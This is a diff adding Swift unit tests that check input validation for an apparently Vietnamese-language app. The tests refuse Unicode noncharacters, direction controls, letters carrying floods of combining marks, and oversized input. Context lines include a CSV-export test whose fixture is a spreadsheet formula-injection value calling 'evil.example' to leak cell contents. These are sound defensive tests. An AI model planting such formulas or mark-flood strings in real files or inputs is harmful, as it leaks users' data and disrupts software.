@@ -68,6 +68,49 @@ import Testing
         #expect(!UnitInput.looksLikeEmail("a@b..vn") && !UnitInput.looksLikeEmail("a b@c.vn") && UnitInput.looksLikeEmail("cd.s1+x@lb.gov.vn"))
     }
 
+    @Test(arguments: ["\u{FFFF}", "a\u{FFFE}", String(Unicode.Scalar(0xFDD0)!) + "x", "\u{2066}abc\u{2069}", "\u{202A}x",
+                      String(Unicode.Scalar(0x1FFFE)!)])
+    func noncharactersAndDirectionControlsAreRefused(text: String) {
+        #expect(throws: TextProblem.self) { try title.check(text).get() }
+        #expect(throws: TextProblem.self) { try content.check(text).get() }
+    }
+
+    @Test func aLetterCarriesAtMostTwoMarks() throws {
+        // Vietnamese, typed decomposed: two marks on one letter, stored composed.
+        #expect(try title.check("Vie\u{0302}\u{0323}t").get() == "Việt")
+        // A letter that composes no further keeps its two marks.
+        #expect(try title.check("q\u{0302}\u{0323}").get().unicodeScalars.count == 3)
+        // A letter with three marks that compose into nothing: refused.
+        let three = "q\u{0302}\u{0323}\u{0301}"
+        #expect(throws: TextProblem("tên mô hình có chữ mang quá nhiều dấu hoặc ký tự ghép (mỗi chữ có tối đa 2 dấu)")) {
+            try title.check("A" + three).get()
+        }
+        // "ệ" with an acute: NFC makes it "ệ" + one mark, which is fine.
+        #expect(try title.check("e\u{0302}\u{0323}\u{0301}").get().unicodeScalars.count == 2)
+        // The attack: one displayed letter with 100,000 marks, refused without rendering it.
+        let heavy = "a" + String(repeating: "\u{0301}", count: 100_000)
+        #expect(throws: TextProblem.self) { try TextRules.campaignTitle.check(heavy).get() }
+        #expect(throws: TextProblem.self) { try InitiativeField.title.rule.check("q" + String(repeating: "\u{0323}", count: 3)).get() }
+        // A chain of conjoining jamo is one character of many code points.
+        #expect(throws: TextProblem.self) { try title.check(String(repeating: "\u{1100}", count: 6)).get() }
+        // A flag (2 code points) and a keycap (3) are letters like others.
+        #expect(try title.check("\u{1F1FB}\u{1F1F3} 1\u{FE0F}\u{20E3}").get().count == 3)
+    }
+
+    @Test func inputFarLongerThanAFieldIsRefusedBeforeAnyWork() throws {
+        // 16 bytes a character at most, plus a little: here 10 characters = 1,184 bytes.
+        #expect(throws: TextProblem("tên mô hình dài quá 10 ký tự")) { try title.check(String(repeating: " ", count: 1_185) + "a").get() }
+        #expect(try title.check(String(repeating: " ", count: 1_100) + "a").get() == "a")
+    }
+
+    @Test func rendererTakesAtMostTwoMarksPerLetterWhateverIsStored() {
+        let stored = "Tê\u{0301}" + String(repeating: "\u{0323}", count: 100_000) + "t"
+        let tamed = TextRule.tamed(stored)
+        #expect(tamed.unicodeScalars.count == 5)
+        #expect(Array(tamed.unicodeScalars.map(\.value)) == [0x54, 0xEA, 0x0301, 0x0323, 0x74])
+        #expect(TextRule.tamed("Việt Nam 🇻🇳") == "Việt Nam 🇻🇳")
+    }
+
     @Test func spreadsheetsShowFormulaLikeCellsAsText() {
         let csv = CSVWriter.write(header: ["a", "b"], rows: [["=HYPERLINK(\"http://evil.example/?\"&A2,\"Xem\")", "+84 912"],
                                                             ["-1", "@SUM(A1)"], ["\tx", "bình thường"]])
